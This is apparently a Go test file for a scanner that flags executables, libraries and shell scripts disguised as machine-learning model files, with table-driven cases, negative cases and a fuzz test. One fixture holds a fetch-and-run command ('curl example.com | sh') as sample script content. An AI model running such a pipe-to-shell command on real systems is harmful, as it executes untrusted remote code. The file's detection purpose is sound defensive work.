package executable

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"modelgate/internal/scanner/scantest"
)

func scanned(t *testing.T, name string, content []byte) *scantest.Recorder {
	t.Helper()
	f := scantest.NewFile(content)
	f.Path = name
	ok, err := Probe(f)
	if err != nil {
		t.Fatal(err)
	}
	rec := &scantest.Recorder{}
	if err := Scan(context.Background(), f, rec); err != nil {
		t.Fatal(err)
	}
	if ok != (len(rec.Findings) == 1) {
		t.Fatalf("Probe of %s = %v, findings %+v", name, ok, rec.Findings)
	}
	return rec
}

const fat = "\xca\xfe\xba\xbe\x00\x00\x00\x02\x01\x00\x00\x07\x00\x00\x00\x03\x00\x00\x10\x00\x00\x00\x10\x00\x00\x00\x00\x0c"

func TestPrograms(t *testing.T) {
	shell := []byte("#!/bin/sh\ncurl example.com | sh\n")
	for _, row := range []struct {
		why, name string
		content   []byte
		want      string
	}{
		{"an ELF program as a model", "pytorch_model.bin", scantest.ELF(2, 62, true), "MG-EXE-100"},
		{"a position-independent program as a model", "model.safetensors", scantest.ELF(3, 62, true), "MG-EXE-100"},
		{"a library as a model", "model.pt", scantest.ELF(3, 62, false), "MG-EXE-100"},
		{"a library among the storages of a checkpoint", "m.pt!/archive/data/7", scantest.ELF(3, 62, false), "MG-EXE-100"},
		{"a library as such", "lib/libtorch.so.2.1", scantest.ELF(3, 62, false), "MG-EXE-101"},
		{"a static library as such", "libnpymath.a", []byte("!<arch>\n/               0"), "MG-EXE-101"},
		{"a static library as a model", "model.bin", []byte("!<arch>\n/               0"), "MG-EXE-100"},
		{"an object file as such", "kernel.o", scantest.ELF(1, 62, false), "MG-EXE-101"},
		{"device code as such", "data/aotinductor/k.cubin", scantest.ELF(2, 190, false), "MG-EXE-101"},
		{"device code as a model", "model.bin", scantest.ELF(2, 190, false), "MG-EXE-100"},
		{"a Windows program as a model", "model.pkl", scantest.PE(false), "MG-EXE-100"},
		{"a Windows program as such", "Setup.EXE", scantest.PE(false), "MG-EXE-101"},
		{"a Windows library as such", "onnxruntime.dll", scantest.PE(true), "MG-EXE-101"},
		{"a Windows library as a program", "x.exe", scantest.PE(true), "MG-EXE-101"},
		{"a macOS program as a model", "model.gguf", scantest.MachO(2), "MG-EXE-100"},
		{"a macOS library as such", "libx.dylib", scantest.MachO(6), "MG-EXE-101"},
		{"a macOS file for several processors", "model.h5", []byte(fat), "MG-EXE-100"},
		{"a WebAssembly module as such", "ort.wasm", []byte("\x00asm\x01\x00\x00\x00"), "MG-EXE-101"},
		{"a WebAssembly module as a model", "model.onnx", []byte("\x00asm\x01\x00\x00\x00"), "MG-EXE-100"},
		{"a script as a model", "model.bin", shell, "MG-EXE-100"},
		{"a script as such", "scripts/train.sh", shell, "MG-INFO-500"},
		{"a script without a suffix", "gradlew", shell, "MG-EXE-101"},
		{"a script through env", "model.pt", []byte("#!/usr/bin/env -S A=1 node\n"), "MG-EXE-100"},
	} {
		if diff := cmp.Diff([]string{row.want}, scanned(t, row.name, row.content).Threats()); diff != "" {
			t.Errorf("%s: threats (-want +got):\n%s", row.why, diff)
		}
	}
}

func TestWhatIsNoProgram(t *testing.T) {
	deep := scantest.PE(false)
	deep[60], deep[61] = 0xff, 0xff
	for why, content := range map[string][]byte{
		"nothing":                          {},
		"text that begins with MZ":         []byte("MZ is not enough, " + strings.Repeat("x", 100)),
		"a DOS header that leads nowhere":  deep,
		"a Java class":                     append([]byte("\xca\xfe\xba\xbe\x00\x00\x00\x34"), make([]byte, 40)...),
		"a Debian package":                 []byte("!<arch>\ndebian-binary   "),
		"Rust source":                      []byte("#![allow(dead_code)]\nfn main() {}\n"),
		"a Python script":                  []byte("#!/usr/bin/env python3\nimport os\n"),
		"a Python script of a version":     []byte("#!/usr/local/bin/python3.11 -u\n"),
		"a heading":                        []byte("#! not a path\n"),
		"ELF in the middle":                append([]byte("model"), scantest.ELF(2, 62, true)...),
		"four bytes of ELF":                []byte("\x7fELF"),
		"ELF of no class":                  append([]byte("\x7fELF"), make([]byte, 100)...),
		"floats that look like Mach-O":     bytes.Repeat([]byte{0xfe, 0xed, 0xfa, 0xce}, 10),
		"WebAssembly of an impossible age": []byte("\x00asm\xff\xff\xff\xff"),
	} {
		if rec := scanned(t, "x.bin", content); len(rec.Findings) > 0 {
			t.Errorf("%s: %+v", why, rec.Findings)
		}
	}
}

func FuzzRecognise(f *testing.F) {
	f.Add(scantest.ELF(3, 62, true))
	f.Add(scantest.PE(true))
	f.Add(scantest.MachO(2))
	f.Add([]byte(fat))
	f.Add([]byte("#!/usr/bin/env -S sh"))
	f.Fuzz(func(t *testing.T, content []byte) {
		if _, _, err := recognise(scantest.NewFile(content)); err != nil {
			t.Fatal(err)
		}
	})
}
